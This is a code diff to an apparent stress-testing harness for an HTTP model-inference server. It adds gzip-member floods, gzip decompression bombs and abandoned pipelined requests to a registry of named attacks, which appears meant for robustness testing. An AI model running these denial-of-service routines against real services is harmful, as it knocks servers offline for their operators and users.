@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import gzip
 import json
 import socket
 import time
@@ -130,6 +131,44 @@ def huge_chunks(target: Target) -> None:
             target.count("extensions")
 
 
+def gzip_members(target: Target) -> None:
+    """Bodies of empty gzip members, twenty bytes each: every one takes a new decompressor."""
+    body = gzip.compress(b"", mtime=0) * 400_000
+    head = b"POST /v2/models/addsub/infer HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
+    while target.going_on():
+        with target.refusals(), target.http_socket() as connection:
+            connection.settimeout(60)
+            connection.sendall(head % len(body))
+            for at in range(0, len(body), 65536):
+                connection.sendall(body[at : at + 65536])
+            target.count("bodies")
+
+
+def gzip_bombs(target: Target) -> None:
+    """Six at a time, of 60 kB each, that inflate to 60 MiB of blanks."""
+    body = gzip.compress(b" " * (60 << 20), mtime=0)
+    head = b"POST /v2/models/addsub/infer HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
+    while target.going_on():
+        with target.refusals(), contextlib.ExitStack() as stack:
+            connections = [stack.enter_context(target.http_socket()) for _ in range(6)]
+            for connection in connections:
+                connection.settimeout(60)
+                connection.sendall(head % len(body) + body)
+            for connection in connections:
+                connection.recv(1000)
+                target.count("bodies")
+
+
+def gone_pipeliners(target: Target) -> None:
+    """Clients that send two requests ahead, and something behind them that is not read, and leave."""
+    body = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[4],"data":[1,2,3,4]}]}'
+    one = b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+    while target.going_on():
+        with target.refusals(), target.http_socket() as connection:
+            connection.sendall(one * 2 + b"POST /v2/mod")
+            target.count("clients")
+
+
 def _large_answer(region: str) -> bytes:
     """A request whose input lies in a region and whose answer has to be sent, in one piece with its head."""
     place = {"shared_memory_region": region, "shared_memory_byte_size": _LARGE}
@@ -161,4 +200,7 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     "http-deep-arrays": deep_arrays,
     "http-pipelined": pipelined,
     "http-huge-chunks": huge_chunks,
+    "http-gzip-members": gzip_members,
+    "http-gzip-bombs": gzip_bombs,
+    "http-gone-pipeliners": gone_pipeliners,
 }
